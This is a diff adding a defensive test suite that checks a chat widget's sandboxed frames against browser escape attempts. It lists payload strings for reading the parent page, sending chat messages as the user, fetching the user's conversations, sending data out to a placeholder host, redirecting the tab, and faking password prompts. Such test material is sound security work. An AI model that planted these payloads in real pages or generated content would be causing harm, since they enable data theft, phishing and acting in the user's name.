@@ -1,0 +1,183 @@
+"""Attempts that the browser refuses, because our headers and the sandboxes of the two frames say so."""
+
+from escapes import Defence, answered, arrived, attempt, happened, permission, policy, token
+
+ORIGIN = token("allow-same-origin")
+CONNECT, FRAMES, SCRIPTS = policy("connect-src"), policy("frame-src"), policy("script-src")
+IMAGES, STYLES, FONTS, MEDIA = policy("img-src"), policy("style-src"), policy("font-src"), policy("media-src")
+POPUPS, MODALS, TOP = token("allow-popups"), token("allow-modals"), token("allow-top-navigation")
+DOWNLOADS = token("allow-downloads")
+NO_SANDBOX = Defence("the sandboxes", no_sandbox=True)
+
+ORIGINS = [
+    attempt("reads-the-page", "top.document.querySelector('agui-chat') !== null", ORIGIN),
+    attempt("reads-the-outer-frame", "parent.document.scripts.length > 0", ORIGIN),
+    attempt("reads-its-frame-element", "frameElement !== null", ORIGIN),
+    attempt("reads-the-page-s-address", "top.location.href.length > 0", ORIGIN),
+    attempt(
+        "sends-as-the-chat",
+        "top.document.querySelector('agui-chat').sendMessage('I agree')",
+        ORIGIN,
+        proof=lambda scene: scene.page.locator(".user").count() > 1,
+    ),
+    attempt("writes-a-cookie", "(document.cookie = 'a=1', document.cookie.includes('a=1'))", ORIGIN),
+    attempt("opens-local-storage", "(localStorage.a = 1, localStorage.length > 0)", ORIGIN),
+    attempt("opens-session-storage", "(sessionStorage.a = 1, sessionStorage.length > 0)", ORIGIN),
+    attempt("lists-databases", "indexedDB.databases().then(() => true)", ORIGIN),
+    attempt("opens-caches", "caches.keys().then(() => true)", ORIGIN),
+    attempt("opens-the-site-s-files", "navigator.storage.getDirectory().then(() => true)", ORIGIN),
+    attempt("lists-locks", "navigator.locks.query().then(() => true)", ORIGIN),
+    attempt(
+        "speaks-on-a-channel-of-the-site",
+        "(window.channel = new BroadcastChannel('site')).postMessage('x')",
+        ORIGIN,
+        prepare=lambda scene: scene.page.evaluate("""() => {
+            window.onChannel = 0;
+            (window.channel = new BroadcastChannel("site")).onmessage = () => (onChannel += 1);
+        }"""),
+        proof=lambda scene: scene.page.evaluate("onChannel") > 0,
+    ),
+    attempt(
+        "reads-conversations-as-the-user",
+        "fetch(SITE('/agent/threads/')).then((response) => response.json()).then(({ threads }) => threads.length > 0)",
+        ORIGIN,
+        CONNECT,
+    ),
+]
+NAVIGATION = [
+    attempt("takes-the-tab-elsewhere", "top.location = OUT", TOP, proof=arrived),
+    attempt("replaces-the-tab", "top.location.replace(OUT)", TOP, proof=arrived),
+    attempt("opens-in-the-tab", "open(OUT, '_top')", TOP, proof=arrived),
+    attempt(
+        "links-to-the-tab", "(add(`<a href='${OUT}' target=_top>x`), document.links[0].click())", TOP, proof=arrived
+    ),
+    attempt(
+        "goes-back-in-the-tab-s-history",
+        "history.back()",
+        TOP,
+        proof=lambda scene: scene.page.locator(".activity").count() == 0,
+        gap="firefox",
+        spoils=True,
+    ),
+    attempt("takes-its-frame-elsewhere", "location.href = OUT", FRAMES, spoils=True, proof=arrived),
+    attempt("takes-its-frame-to-the-site", "location.href = SITE('/livez')", FRAMES, spoils=True, proof=answered),
+    attempt(
+        "takes-its-frame-to-data",
+        "location.href = 'data:text/html,' + NAME",
+        FRAMES,
+        spoils=True,
+        proof=lambda scene: any(frame.url.startswith("data:") for frame in scene.page.frames),
+        only="chromium",
+    ),
+    attempt(
+        "refreshes-to-elsewhere",
+        "add(`<meta http-equiv=refresh content='0;url=${OUT}'>`)",
+        FRAMES,
+        spoils=True,
+        proof=arrived,
+    ),
+    attempt("takes-the-outer-frame-elsewhere", "parent.location = SITE('/livez')", NO_SANDBOX, proof=answered),
+    attempt("frames-a-page-of-elsewhere", "add(`<iframe src='${OUT}'></iframe>`)", FRAMES, proof=arrived),
+    attempt("frames-a-page-of-the-site", "add(`<iframe src='${SITE('/livez')}'></iframe>`)", FRAMES, proof=answered),
+    attempt("embeds-a-page", "add(`<embed src='${OUT}'>`)", policy("object-src", "frame-src"), proof=arrived),
+    attempt(
+        "loads-an-object", "add(`<object data='${OUT}'></object>`)", policy("object-src", "frame-src"), proof=arrived
+    ),
+    attempt(
+        "sends-a-form",
+        "(add(`<form action='${OUT}'><input name=a></form>`), document.forms[0].submit())",
+        token("allow-forms"),
+        policy("form-action", "frame-src"),
+        proof=arrived,
+    ),
+    attempt(
+        "moves-its-base",
+        "(add(`<base href='${OUT}'>`), document.baseURI === OUT)",
+        policy("base-uri"),
+    ),
+]
+WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`], {{ type: 'text/javascript' }})))"
+NETWORK = [
+    attempt("fetches", "fetch(OUT, { mode: 'no-cors' })", CONNECT, proof=arrived),
+    attempt("fetches-from-the-site", "fetch(SITE('/livez'), { mode: 'no-cors' })", CONNECT, proof=answered),
+    attempt(
+        "sends-a-request", "(window.x = new XMLHttpRequest(), x.open('GET', OUT), x.send())", CONNECT, proof=arrived
+    ),
+    attempt("opens-a-socket", "new WebSocket(OUT.replace('http', 'ws'))", CONNECT, proof=arrived),
+    attempt("listens-to-events", "new EventSource(OUT)", CONNECT, proof=arrived),
+    attempt("sends-a-beacon", "navigator.sendBeacon(OUT, 'x')", CONNECT, proof=arrived),
+    attempt(
+        "opens-a-web-transport",
+        "new WebTransport(OUT.replace('http', 'https')).ready",
+        CONNECT,
+        proof=lambda scene: scene.outside.datagrams > 0,
+    ),
+    attempt("fetches-in-a-worker", WORKER.format("fetch('${OUT}')"), CONNECT, proof=arrived),
+    attempt("imports-in-a-worker", WORKER.format("importScripts('${OUT}')"), SCRIPTS, proof=arrived),
+    attempt(
+        "fetches-in-a-frame-of-its-own",
+        "add(`<iframe srcdoc=\"<script>fetch('${OUT}')</script>\"></iframe>`)",
+        CONNECT,
+        proof=arrived,
+    ),
+    attempt("loads-a-script", "add(`<script src='${OUT}'></script>`)", SCRIPTS, proof=arrived),
+    attempt("imports-a-module", "import(OUT)", SCRIPTS, proof=arrived),
+    attempt(
+        "runs-text-as-code",
+        # Playwright itself may do that in the call that it makes.
+        "new Promise((done) => setTimeout(() => done(attempt(() => eval('true')))))",
+        SCRIPTS,
+    ),
+    attempt("loads-an-image", "(new Image()).src = OUT", IMAGES, proof=arrived),
+    attempt("draws-an-image-of-elsewhere", "add(`<svg><image href='${OUT}'></image></svg>`)", IMAGES, proof=arrived),
+    attempt("loads-a-background", "add(`<p style='background: url(${OUT})'>x</p>`)", IMAGES, proof=arrived),
+    attempt("loads-a-style", "add(`<link rel=stylesheet href='${OUT}'>`)", STYLES, proof=arrived),
+    attempt("imports-a-style", "add(`<style>@import url(${OUT});</style>`)", STYLES, proof=arrived),
+    attempt(
+        "loads-a-font",
+        "add(`<style>@font-face { font-family: x; src: url(${OUT}) } h1 { font-family: x }</style>`)",
+        FONTS,
+        proof=arrived,
+    ),
+    attempt("loads-a-video", "add(`<video src='${OUT}' autoplay muted></video>`)", MEDIA, proof=arrived),
+    attempt("loads-a-sound", "(new Audio(OUT)).load()", MEDIA, proof=arrived),
+    attempt("preloads", "add(`<link rel=preload as=image href='${OUT}'>`)", IMAGES, proof=arrived),
+    attempt("prefetches", "add(`<link rel=prefetch href='${OUT}'>`)", policy("default-src"), proof=arrived),
+]
+CLICK = "(add(`<a {}>x</a>`), [...document.links].at(-1).click())"
+WINDOWS = [
+    attempt("opens-a-window", "open(OUT)", POPUPS, proof=happened("popup")),
+    attempt("links-to-a-window", CLICK.format("href='${OUT}' target=_blank"), POPUPS, proof=happened("popup")),
+    attempt("shows-an-alert", "alert('Your session has ended')", MODALS, proof=happened("dialog")),
+    attempt("asks-to-confirm", "confirm('Sure?')", MODALS, proof=happened("dialog")),
+    attempt("asks-for-a-password", "prompt('Password?')", MODALS, proof=happened("dialog")),
+    attempt(
+        "downloads",
+        CLICK.format("href='data:text/plain,x' download='x.txt'"),
+        DOWNLOADS,
+        proof=happened("download"),
+    ),
+    attempt(
+        "downloads-what-it-has-made",
+        CLICK.format("href='${URL.createObjectURL(new Blob([1]))}' download='x.txt'"),
+        DOWNLOADS,
+        proof=happened("download"),
+    ),
+    attempt("fills-the-screen", "document.body.requestFullscreen().then(() => true)", permission("fullscreen")),
+    attempt(
+        "takes-the-pointer",
+        """new Promise((done) => {
+          document.addEventListener("pointerlockchange", () => done(true));
+          document.body.requestPointerLock()?.catch((error) => done(error.name));
+          document.addEventListener("pointerlockerror", () => done("error"));
+        })""",
+        token("allow-pointer-lock"),
+    ),
+    attempt(
+        "asks-where-the-user-is",
+        "new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)))",
+        permission("geolocation"),
+        prepare=lambda scene: scene.page.context.set_geolocation({"latitude": 1, "longitude": 1}),
+        only="chromium",
+    ),
+]
